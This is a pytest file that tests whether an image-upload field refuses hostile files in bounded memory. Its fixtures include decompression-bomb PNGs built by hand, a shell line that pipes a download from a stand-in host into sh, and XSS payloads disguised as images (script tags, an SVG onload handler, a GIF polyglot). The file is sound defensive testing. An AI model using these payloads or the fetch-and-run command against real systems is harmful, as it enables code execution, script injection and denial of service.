"""Hostile images through an ImageField: decompression bombs, truncated and disguised files give an
FSError, in bounded memory, and store nothing. Each upload runs in a process of its own, so its peak
memory is its own."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import zlib
from pathlib import Path
from typing import TypedDict

import pytest
from PIL import Image

from .conftest import FIGURES, python_script

#: Peak RSS an upload may reach: Python, Flask, Pillow and mongoengine take ~70 MB; a decoded
#: bomb would take gigabytes.
PEAK_RSS_MB = 200


class Upload(TypedDict):
    """What image_upload.py prints."""

    outcome: str
    files: list[str]
    peak_rss_mb: float


def _png(width: int, height: int, rows: int = 16) -> bytes:
    """A PNG claiming ``width`` x ``height`` grey pixels, with only a few rows of data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * ((width + 1) * rows), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _jpeg(size: tuple[int, int] = (1200, 900)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


HOSTILE = {
    "bomb-50000x50000.png": _png(50_000, 50_000),  # 2.5 G pixels: refused outright
    "bomb-10000x10000.png": _png(10_000, 10_000),  # 100 M pixels: Pillow only warns
    "truncated.jpg": _jpeg()[:3000],
    "script.png": b"#!/bin/sh\ncurl evil.example | sh\n",
    "page.jpg": b"<html><script>alert(1)</script></html>",
    "vector.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "polyglot.gif": b"GIF89a" + b"<script>alert(1)</script>" * 10,
    "empty.jpg": b"",
}


@pytest.mark.parametrize("filename", sorted(HOSTILE))
def test_a_hostile_image_is_refused_in_bounded_memory_and_stores_nothing(
    filename: str, tmp_path: Path
) -> None:
    payload = tmp_path / "payload"
    payload.write_bytes(HOSTILE[filename])
    result = _upload(tmp_path / "root", payload, filename)
    FIGURES.setdefault("images", {})[filename] = result
    assert not result["outcome"].startswith("CRASH"), result
    assert result["outcome"] != "stored", result
    assert result["files"] == []
    assert result["peak_rss_mb"] < PEAK_RSS_MB


def test_a_real_image_is_stored_in_the_same_conditions(tmp_path: Path) -> None:
    """The control: the same script stores a genuine JPEG and its thumbnails."""
    payload = tmp_path / "payload"
    payload.write_bytes(_jpeg())
    result = _upload(tmp_path / "root", payload, "photo.jpg")
    FIGURES.setdefault("images", {})["control photo.jpg"] = result
    assert result["outcome"] == "stored"
    assert result["files"] == ["photo-128.jpg", "photo-512.jpg", "photo-original.jpg", "photo.jpg"]


def _upload(root: Path, payload: Path, filename: str) -> Upload:
    done = subprocess.run(
        [*python_script("image_upload.py"), str(root), str(payload), filename],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    result: Upload = json.loads(done.stdout.strip().splitlines()[-1])
    return result
